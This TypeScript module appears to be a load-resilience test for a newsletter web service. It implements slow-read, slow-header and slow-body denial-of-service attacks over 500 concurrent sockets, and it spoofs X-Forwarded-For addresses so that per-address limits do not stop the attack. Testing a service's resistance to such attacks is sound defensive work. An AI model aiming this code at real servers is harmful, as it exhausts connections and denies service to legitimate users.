import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

export type SlowAttack = 'readers' | 'connections' | 'bodies';

const CONNECTIONS = 500;
const EVERY_MS = 1_000;
/** A proxy's address for each, so that the limit of an address does not end the attack. */
const fromOf = (number: number) => `198.18.${number % 250}.${Math.floor(number / 250)}`;
/** Few, because this measures slowness and not a flood. */
const REQUESTS_EACH = 2;
const LIST = JSON.stringify({ query: '{ newsletters(limit: 10) { items { id name description url } } }' });

/** Where nobody expects a body. */
const PATHS = ['/', '/healthz', '/robots.txt', '/nowhere', '/api/newsletters'];

/** Many connections at once that read their responses, or send their requests or bodies, one byte per second. */
export async function attackSlowly(kind: SlowAttack, address: string, seconds: number): Promise<string> {
  const { hostname, port } = new URL(address);
  const open = async (number: number) => {
    const socket = connect({ host: hostname, port: Number(port) }).on('error', () => undefined);
    await once(socket, 'connect');
    if (kind === 'readers') socket.pause().write(requestsFrom(fromOf(number)));
    else
      socket.resume().write(kind === 'bodies' ? longBodyFrom(number) : 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
    return socket;
  };
  const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => open(number)));
  const drip = (socket: Socket) => void (kind === 'readers' ? socket.read(1) : socket.write('a'));
  for (const end = Date.now() + seconds * 1_000; Date.now() < end; await wait(EVERY_MS)) sockets.forEach(drip);
  const held = sockets.filter(({ closed }) => !closed).length;
  for (const socket of sockets) socket.destroy();
  return `${held} of ${CONNECTIONS} held`;
}

/** Pages and lists, pipelined. */
function requestsFrom(address: string): string {
  const headers = `Host: localhost\r\nX-Forwarded-For: ${address}\r\n`;
  const page = `GET / HTTP/1.1\r\n${headers}\r\n`;
  const list = `POST /graphql HTTP/1.1\r\n${headers}Content-Type: application/json\r\nContent-Length: ${LIST.length}\r\n\r\n${LIST}`;
  return (page + list).repeat(REQUESTS_EACH / 2);
}

const longBodyFrom = (number: number): string =>
  `POST ${PATHS[number % PATHS.length]} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${fromOf(number)}\r\nContent-Length: 1000000\r\n\r\n`;
